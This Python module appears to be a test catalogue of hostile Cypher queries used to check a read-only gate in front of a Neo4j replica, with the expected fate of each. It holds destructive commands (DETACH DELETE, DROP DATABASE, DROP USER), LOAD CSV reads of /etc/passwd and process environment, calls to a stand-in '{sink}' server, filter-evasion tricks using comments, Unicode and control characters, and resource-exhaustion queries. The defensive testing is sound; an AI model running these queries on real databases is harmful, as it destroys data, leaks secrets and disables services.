"""Queries that try to do more than read, each with the outcome that is expected.

`{sink}` is the address of a server that counts its callers. The queries that pass the gate read
data that a replica does not hold, or use up their limits.
"""

from dataclasses import dataclass
from typing import Final

READ_ONLY: Final = "READ_ONLY"
OPERATOR: Final = "OPERATOR"
PROCEDURE: Final = "PROCEDURE"
SYNTAX: Final = "SYNTAX"
PREFIX: Final = "PREFIX"
ESCAPE: Final = "ESCAPE"
NESTING: Final = "NESTING"
LENGTH: Final = "LENGTH"
CONTROL: Final = "CONTROL"
PASSES: Final = "PASSES"
"""The query runs, and returns nothing that the caller may not see."""
REFUSED: Final = "REFUSED"
"""A rule of the gate refuses the query; which rule depends on the engine."""
ENDS: Final = "ENDS"
"""The query runs and is ended: by the engine's limits, by ours, or with the replica."""


@dataclass(frozen=True, slots=True)
class Attack:
    text: str
    fate: str

    def __str__(self) -> str:
        return " ".join(self.text.split())[:60]


def _each(fate: str, *texts: str) -> tuple[Attack, ...]:
    return tuple(Attack(text, fate) for text in texts)


WRITES: Final = _each(
    READ_ONLY,
    "CREATE (n:Area {id: 'x'})",
    "CREATE (n:Zq) RETURN n",
    "CREATE (a)-[:KNOWS]->(b) RETURN a",
    "MERGE (n:Area {id: 'x'}) RETURN n",
    "MERGE (n:Area {id: 'x'}) ON CREATE SET n.a = 1 ON MATCH SET n.b = 2 RETURN n",
    "MATCH (n) SET n.name = 'x'",
    "MATCH (n) SET n += {name: 'x'} RETURN n",
    "MATCH (n) SET n = {}",
    "MATCH (n) SET n:Zq RETURN n",
    "MATCH (n) SET n:$('Zq') RETURN n",
    "MATCH (n) SET n[$name] = 1 RETURN n",
    "MATCH (n) REMOVE n.name",
    "MATCH (n) REMOVE n:Area RETURN count(n)",
    "MATCH (n) DELETE n",
    "MATCH (n) DETACH DELETE n",
    "MATCH (n) NODETACH DELETE n",
    "MATCH ()-[l]->() DELETE l",
    "MATCH p = ()-->() DELETE p",
    "MATCH (n) FOREACH (x IN [1] | SET n.name = 'x')",
    "FOREACH (x IN range(1, 10) | CREATE (:Zq {n: x}))",
    "FOREACH (x IN [1] | FOREACH (y IN [1] | CREATE (:Zq)))",
    "UNWIND [1] AS x CREATE (:Zq {n: x})",
    "MATCH (n) WITH n LIMIT 1 SET n.x = 1 RETURN n",
    "MATCH (n) CALL (n) { SET n.x = 1 } RETURN count(*)",
    "CALL () { CREATE (:Zq) } RETURN 1",
    "CALL { CREATE (n:Zq) RETURN n } RETURN n",
    "CALL () { CALL () { CREATE (:Zq) } } RETURN 1",
    "MATCH (n) RETURN n UNION CREATE (n:Zq) RETURN n",
    "CALL () { MATCH (n) RETURN n UNION CREATE (n:Zq) RETURN n } RETURN n",
    "MATCH (n) OPTIONAL CALL (n) { SET n.x = 1 RETURN 1 AS y } RETURN y",
    "CREATE (:$('Zq') {n: 1})",
    "MATCH (a), (b) CREATE (a)-[:$('ZQ')]->(b)",
    "LOAD CSV FROM '{sink}' AS line CREATE (:Zq {v: line[0]})",
    "create (n) return n",
    "cReAtE (n) ReTuRn n",
    "CREATE/**/(n)RETURN n",
    "CREATE\n(n)\nRETURN\nn",
    "/* MATCH (n) RETURN n */ CREATE (n)",
    "// MATCH (n) RETURN n\nCREATE (n)",
    "MATCH (n) RETURN n //\nUNION CREATE (n) RETURN n",
    "WITH 'RETURN 1' AS text CREATE (n {v: text})",
    "CREATE (`n`:`Area`) RETURN `n`",
)
NESTED_WRITES: Final = _each(
    REFUSED,
    "MATCH (n) RETURN EXISTS { CREATE (m) RETURN m }",
    "MATCH (n) RETURN COUNT { MATCH (n) SET n.x = 1 RETURN n }",
    "MATCH (n) RETURN COLLECT { MERGE (m:Zq) RETURN m }",
    "RETURN [x IN [1] | CREATE (n)]",
    "MATCH (n) CALL (n) { SET n.x = 1 } IN TRANSACTIONS RETURN count(*)",
    "UNWIND range(1, 9) AS x CALL (x) { CREATE (:Zq {n: x}) } IN TRANSACTIONS OF 2 ROWS",
    "UNWIND range(1, 9) AS x CALL (x) { CREATE (:Zq) } IN 2 CONCURRENT TRANSACTIONS",
    "MATCH (n) CALL (n) { RETURN 1 AS y } IN TRANSACTIONS RETURN y",
    "USING PERIODIC COMMIT LOAD CSV FROM '{sink}' AS line RETURN line",
    "MATCH (n) RETURN n; CREATE (m)",
    "RETURN 1; RETURN 2",
    "RETURN 1; MATCH (n) DETACH DELETE n",
    ";CREATE (n)",
)
ADMINISTRATION: Final = _each(
    REFUSED,
    "CREATE INDEX zq FOR (n:Area) ON (n.name)",
    "CREATE TEXT INDEX zq FOR (n:Area) ON (n.name)",
    "CREATE FULLTEXT INDEX zq FOR (n:Area) ON EACH [n.name]",
    "CREATE VECTOR INDEX zq FOR (n:Area) ON (n.lat)",
    "CREATE CONSTRAINT zq FOR (n:Area) REQUIRE n.name IS UNIQUE",
    "DROP INDEX zq IF EXISTS",
    "DROP CONSTRAINT zq IF EXISTS",
    "CREATE USER eve SET PASSWORD 'secret123'",
    "ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'b'",
    "ALTER USER neo4j SET PASSWORD 'secret123'",
    "DROP USER neo4j",
    "RENAME USER neo4j TO eve",
    "CREATE ROLE eve",
    "GRANT ROLE admin TO neo4j",
    "DENY MATCH {*} ON GRAPH * TO PUBLIC",
    "CREATE DATABASE zq",
    "DROP DATABASE neo4j",
    "STOP DATABASE neo4j",
    "ALTER DATABASE neo4j SET ACCESS READ ONLY",
    "CREATE ALIAS zq FOR DATABASE neo4j",
    "ENABLE SERVER 'x'",
    "DRYRUN DEALLOCATE DATABASES FROM SERVER 'x'",
    "SHOW DATABASES",
    "SHOW USERS",
    "SHOW CURRENT USER",
    "SHOW ROLES",
    "SHOW PRIVILEGES",
    "SHOW SERVERS",
    "SHOW ALIASES FOR DATABASE",
    "SHOW TRANSACTIONS",
    "SHOW TRANSACTIONS YIELD currentQuery RETURN currentQuery",
    "SHOW TRANSACTIONS YIELD transactionId AS id TERMINATE TRANSACTIONS id YIELD message RETURN id",
    "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
    "SHOW SETTINGS",
    "SHOW SETTINGS 'server.bolt.listen_address' YIELD value RETURN value",
    "SHOW PROCEDURES",
    "SHOW FUNCTIONS YIELD name RETURN name",
    "SHOW INDEXES",
    "SHOW CONSTRAINTS YIELD *",
    "SHOW SUPPORTED PRIVILEGES",
)
FILES: Final = _each(
    REFUSED,
    "LOAD CSV FROM '{sink}' AS line RETURN line",
    "LOAD CSV WITH HEADERS FROM '{sink}/a.csv' AS line RETURN line",
    "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
    "LOAD CSV FROM 'file:///proc/self/environ' AS line FIELDTERMINATOR '|' RETURN line",
    "WITH '{sink}' AS where LOAD CSV FROM where AS line RETURN line",
    "MATCH (n:Area) LOAD CSV FROM '{sink}/' + n.name AS line RETURN line",
    "CALL () { LOAD CSV FROM '{sink}' AS line RETURN line } RETURN line",
    "RETURN EXISTS { LOAD CSV FROM '{sink}' AS line RETURN line }",
    "LOAD CSV FROM 'ftp://127.0.0.1/x' AS line RETURN line",
    "LOAD CSV FROM 'jar:{sink}!/x' AS line RETURN line",
    "load csv from '{sink}' as line return line",
)
PROCEDURES: Final = _each(
    REFUSED,
    "CALL dbms.listConfig()",
    "CALL dbms.listConfig() YIELD name, value RETURN name, value",
    "CALL dbms.info()",
    "CALL dbms.components()",
    "CALL dbms.queryJmx('*:*')",
    "CALL dbms.queryJmx('java.lang:type=Runtime') YIELD attributes RETURN attributes",
    "CALL dbms.listConnections()",
    "CALL dbms.killConnection('bolt-1')",
    "CALL dbms.killConnections(['bolt-1'])",
    "CALL dbms.listCapabilities()",
    "CALL dbms.upgrade()",
    "CALL dbms.setConfigValue('a', 'b')",
    "CALL dbms.security.createUser('a', 'b', false)",
    "CALL dbms.clientConfig()",
    "CALL dbms.showCurrentUser()",
    "CALL db.clearQueryCaches()",
    "CALL db.createLabel('Zq')",
    "CALL db.createRelationshipType('ZQ')",
    "CALL db.createProperty('zq')",
    "CALL db.awaitIndexes(1)",
    "CALL db.resampleIndex('x')",
    "CALL db.prepareForReplanning()",
    "CALL db.stats.collect('QUERIES', {})",
    "CALL db.stats.retrieve('GRAPH COUNTS')",
    "CALL db.index.fulltext.queryNodes('x', 'y')",
    "CALL db.index.vector.queryNodes('x', 1, [0.1])",
    "CALL db.ping()",
    "CALL db.info()",
    "CALL db.schema.visualization()",
    "CALL db.schema.nodeTypeProperties()",
    "CALL tx.getMetaData()",
    "CALL tx.setMetaData({user: 'root'})",
    "CALL apoc.load.json('{sink}')",
    "CALL apoc.cypher.runWrite('CREATE (n)', {})",
    "CALL gds.list()",
    "CALL db.labels() YIELD label CALL dbms.listConfig() YIELD name RETURN label, name",
    "CALL () { CALL dbms.listConfig() YIELD name RETURN name } RETURN name",
    "RETURN COUNT { CALL dbms.listConfig() YIELD name RETURN name }",
    "CALL `dbms`.`listConfig`()",
    "CALL db . createLabel ('Zq')",
    "RETURN apoc.create.uuid()",
    "RETURN genai.vector.encode('x', 'OpenAI', {model: 'x'})",
)
BEFORE_THE_QUERY: Final = (
    *_each(
        PREFIX,
        "EXPLAIN MATCH (n) RETURN n",
        "PROFILE MATCH (n) RETURN n",
        "profile create (n)",
        "CYPHER 5 CREATE (n)",
        "CYPHER runtime=slotted MATCH (n) RETURN n",
        "CYPHER planner=dp PROFILE CREATE (n)",
        "USE system SHOW USERS",
        "USE neo4j MATCH (n) RETURN n",
        "  \n /* aside */ // and more\n PROFILE CREATE (n)",
        "/* a *//* b */USE system SHOW USERS",
    ),
    *_each(
        ESCAPE,
        "CREATE (n) RETURN '\\u0041'",
        "\\u0043REATE (n)",
        "MATCH (n) RETURN n /* \\u002a/ CREATE (m) */",
        "RETURN '\\u0027 CREATE (n) //'",
        "MATCH (n) WHERE n.name = '\\U00000041' RETURN n",
        'RETURN "\\uD800"',
    ),
    *_each(
        NESTING,
        "RETURN " + "(" * 33 + "1" + ")" * 33,
        "RETURN " + "[" * 3_900,
        "RETURN " + "{a:" * 100 + "1" + "}" * 100,
        "RETURN " + "".join("[']'," for _ in range(40)) + "1" + "]" * 40,
        "RETURN " + "[/*]*/" * 40 + "1" + "]" * 40,
        "RETURN " + "[`]`," * 40,
        "RETURN " + "[//]\n" * 40 + "1",
    ),
    *_each(LENGTH, "RETURN 1 " + " " * 4_000, "RETURN '" + "a" * 4_000 + "'"),
    *_each(
        CONTROL,
        "RETURN 1\x00 CREATE (n)",
        "RETURN 1 //\rCREATE (n)",
        "RETURN 1 //\x0bCREATE (n)",
        "RETURN 1 //\x85CREATE (n)",
        "RETURN 1 //\u2028CREATE (n)",
        "RETURN '\u202e'",
        "RETURN '\ufeff'",
        "CRE\u200bATE (n)",
    ),
    *_each(
        REFUSED,
        "",
        "   ",
        "//",
        "/*",
        "'",
        "RETURN `",
        "CREATE",
        "RETURN",
        "MATCH (n RETURN n",
        "MATCH (n) USE system RETURN n",
        "CALL () { USE system SHOW USERS YIELD user RETURN user } RETURN user",
        "MATCH (n) RETURN n UNION USE system MATCH (n) RETURN n",
        "MATCH (n) RETURN graph.names()",
        "RETURN graph.byName('system')",
        "MATCH (n) RETURN db.nameFromElementId(elementId(n))",
        "\u0421REATE (n)",  # the first letter is a Cyrillic one
        "ＣＲＥＡＴＥ (n)",  # noqa: RUF001 - full width
    ),
)
BOMBS: Final = _each(
    ENDS,
    "RETURN reduce(s = 'xxxxxxxx', x IN range(1, 60) | s + s)",
    "UNWIND reduce(s = [1], x IN range(1, 40) | s + s) AS x RETURN count(x)",
    "UNWIND range(1, 1000000000) AS x RETURN collect(x)",
    "UNWIND range(1, 100000000) AS x WITH x ORDER BY rand() RETURN x",
    "RETURN count { UNWIND range(1, 10000000000) AS x RETURN x }",
    "MATCH (a), (b), (c), (d) WHERE a.id > d.id RETURN count(*)",
    "MATCH (a)-[*0..40]-(b) RETURN count(*)",
    "MATCH p = (a)-[*]-(b) RETURN max(length(p))",
    "MATCH (a), (b) WHERE a <> b MATCH p = allShortestPaths((a)-[*]-(b)) RETURN count(p)",
    "MATCH p = SHORTEST 1000 (a)((x)-[]-(y))+(b) RETURN count(p)",
    "RETURN reduce(a = [], x IN range(1, 100000) | [a])",
    "RETURN range(1, 100000000)",
    "UNWIND range(1, 100000) AS a UNWIND range(1, 100000) AS b RETURN sum(a * b)",
    "RETURN reduce(t = 0, x IN range(1, 100000000000) | t + x)",
    "UNWIND range(1, 3000000) AS x RETURN count(DISTINCT toString(x) + 'abcdefghijklmnop')",
)
FLOODS: Final = _each(
    PASSES,
    "UNWIND range(1, 100000000) AS x RETURN x",
    "UNWIND range(1, 1000) AS x RETURN range(1, 10000)",
    "RETURN range(1, 2000000)",
    "UNWIND range(1, 1000000) AS x RETURN 'abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyz'",
)
"""Queries whose answers are cut."""
LEAKS: Final = _each(
    PASSES,
    "MATCH (n) RETURN n",
    "MATCH (n) RETURN properties(n)",
    "MATCH (n) RETURN keys(n), labels(n), n",
    "MATCH (a)-[l]->(b) RETURN a, type(l), properties(l), b",
    "MATCH p = (:Person)-[*1..2]-() RETURN p",
    "MATCH (p:Person) RETURN p.name, p.title, p.id, p",
    "MATCH (p:Person) RETURN [name IN keys(p) | p[name]]",
    "MATCH (p:Person) WHERE p.name STARTS WITH 'Amina' RETURN p",
    "MATCH (n:ResourceIndividual) RETURN n",
    "MATCH (n:ResourceIndividual|ContactDetail|Consent) RETURN count(n)",
    "MATCH (n:ContactDetail) RETURN n.hint, n.sealed, n.value",
    "MATCH (n:Consent) RETURN n.audience, n",
    "MATCH ()-[l:DOOR_OPENER_FOR|REPRESENTS|GAVE_CONSENT|REACHED_BY]-() RETURN l",
    "MATCH (n) WHERE n.verified_by IS NOT NULL RETURN n",
    "MATCH ()-[l]->() RETURN l.verified_by, l.declared_by, l.consent_id",
    "MATCH (n) RETURN elementId(n), id(n)",
    "CALL db.labels() YIELD label RETURN label",
    "CALL db.relationshipTypes()",
    "CALL db.propertyKeys() YIELD propertyKey RETURN propertyKey",
    "MATCH (n) WHERE any(k IN keys(n) WHERE toStringOrNull(n[k]) CONTAINS '@') RETURN n",
    "MATCH (n:Store) RETURN n",
    "MATCH (n:Change|ChangeSet) RETURN n",
    "MATCH (n) WHERE n.civilians < 5 RETURN n",
    "MATCH (n) WHERE n.civilians % 5 <> 0 RETURN n",
)
"""Queries that ask for everything; no answer holds data that is not for analysts."""

REFUSED_BY_THE_GATE: Final = (
    *WRITES, *NESTED_WRITES, *ADMINISTRATION, *FILES, *PROCEDURES, *BEFORE_THE_QUERY
)  # fmt: skip
ATTACKS: Final = (*REFUSED_BY_THE_GATE, *BOMBS, *FLOODS, *LEAKS)
